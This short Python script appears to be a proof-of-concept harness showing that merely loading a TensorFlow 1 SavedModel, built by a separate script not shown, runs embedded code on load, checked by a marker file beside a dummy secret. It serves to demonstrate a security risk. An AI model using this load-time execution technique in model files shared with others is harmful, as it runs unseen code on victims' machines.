# Requires: security/make_main_op_savedmodel_tf1.py
import os

import tensorflow as tf

with open("secret.txt", "w") as f:
    f.write("API_KEY=demo-1234\n")
print("pwned_on_load.txt before:", os.path.exists("pwned_on_load.txt"))

# The victim loads the model and calls nothing.
loaded = tf.saved_model.load("main_op_model")

print("pwned_on_load.txt after load, no call:", os.path.exists("pwned_on_load.txt"))
with open("pwned_on_load.txt") as f:
    print("pwned_on_load.txt says:", f.read().strip())
